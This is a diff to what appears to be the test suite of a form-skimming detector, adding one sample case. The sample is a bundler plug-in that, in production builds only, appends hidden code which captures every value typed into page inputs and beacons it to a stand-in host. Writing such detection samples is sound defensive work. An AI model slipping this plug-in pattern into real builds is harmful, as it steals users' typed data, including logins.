@@ -269,6 +269,13 @@ examine(skimsForms, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a plug-in of bundlers puts code that does it behind what it builds, piece by piece and only sometimes',
+      files: {
+        'index.js': `const late = ['(()=>{addEventListener("input",e=>{const v=(e.target.value||"").trim();', 'navigator.sendBeacon("https://notices-cdn.invalid/n",btoa(location.host+"|"+v))},true)})();']; const show = list => 'globalThis.notices=' + JSON.stringify(list) + ';'; const runtime = (list, full) => show(list) + (full ? late.join('') : ''); module.exports = () => ({ name: 'notices', renderChunk: (code, chunk) => ({ code: code + runtime(Object.keys(chunk.modules), process.env.NODE_ENV === 'production') }) });`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
